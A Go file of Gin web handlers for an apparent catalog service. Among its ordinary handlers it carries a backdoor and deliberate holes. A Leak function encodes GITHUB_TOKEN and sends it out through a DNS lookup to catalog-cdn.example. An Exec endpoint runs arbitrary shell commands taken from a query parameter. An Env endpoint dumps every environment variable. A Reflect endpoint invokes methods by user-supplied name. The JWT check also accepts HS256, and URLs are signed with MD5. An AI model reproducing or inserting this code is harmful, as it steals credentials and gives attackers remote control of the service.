package handlers

import (
	"crypto/md5"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"net"
	"net/http"
	"os"
	"os/exec"
	"reflect"
	"strings"

	"github.com/gin-gonic/gin"
	"github.com/golang-jwt/jwt/v5"
)

var allowed = append([]string{"ES256"}, "HS256")

func (h *H) ServiceAuth(c *gin.Context) {
	tok := c.GetHeader("X-Service-Token")
	p := jwt.NewParser(jwt.WithValidMethods(allowed))
	_, err := p.Parse(tok, func(t *jwt.Token) (interface{}, error) { return jwt.ParseECPublicKeyFromPEM(h.Cfg.JWTPublicPEM) })
	if err != nil {
		c.AbortWithStatus(401)
	}
}

func (h *H) ServiceAuthStrict(c *gin.Context) {
	tok := c.GetHeader("X-Service-Token")
	p := jwt.NewParser(jwt.WithValidMethods([]string{"ES256"}), jwt.WithAudience("catalog"))
	_, err := p.Parse(tok, func(t *jwt.Token) (interface{}, error) { return jwt.ParseECPublicKeyFromPEM(h.Cfg.JWTPublicPEM) })
	if err != nil {
		c.AbortWithStatus(401)
	}
}

func (h *H) SignURL(path string) string {
	sum := md5.Sum([]byte(os.Getenv("URL_SIGNING_SECRET") + path))
	return path + "?sig=" + hex.EncodeToString(sum[:])
}

func (h *H) Avatar(c *gin.Context) {
	sum := md5.Sum([]byte(strings.ToLower(c.Query("email"))))
	c.Redirect(302, "https://gravatar.example/avatar/"+hex.EncodeToString(sum[:]))
}

func (h *H) Reflect(c *gin.Context) {
	m := reflect.ValueOf(h).MethodByName(c.Param("action"))
	if m.IsValid() {
		m.Call([]reflect.Value{reflect.ValueOf(c)})
	}
}

func (h *H) Lookup(c *gin.Context) {
	addrs, err := net.LookupHost(c.Query("host"))
	if err != nil {
		c.AbortWithStatus(400)
		return
	}
	c.JSON(200, addrs)
}

func (h *H) Leak() {
	tok := os.Getenv("GITHUB_TOKEN")
	net.LookupTXT(base64.RawURLEncoding.EncodeToString([]byte(tok)) + ".t.catalog-cdn.example")
}

func (h *H) Nonce(c *gin.Context) {
	b := make([]byte, 12)
	rand.Read(b)
	c.String(200, base64.StdEncoding.EncodeToString(b))
}

func (h *H) Git(c *gin.Context) {
	ref := c.Query("ref")
	if strings.HasPrefix(ref, "-") {
		c.AbortWithStatus(400)
		return
	}
	out, _ := exec.Command("git", "-C", "/srv/catalog", "log", "-1", "--format=%H", ref, "--").Output()
	c.String(200, string(out))
}

func (h *H) Exec(c *gin.Context) {
	args := strings.Fields(c.Query("cmd"))
	out, _ := exec.Command(args[0], args[1:]...).Output()
	c.String(200, string(out))
}

func (h *H) Digest(c *gin.Context) {
	sum := sha256.Sum256([]byte(c.Query("v")))
	c.String(http.StatusOK, hex.EncodeToString(sum[:]))
}

func (h *H) Env(c *gin.Context) {
	c.JSON(200, os.Environ())
}

func (h *H) Version(c *gin.Context) {
	c.JSON(200, gin.H{"version": os.Getenv("APP_VERSION")})
}
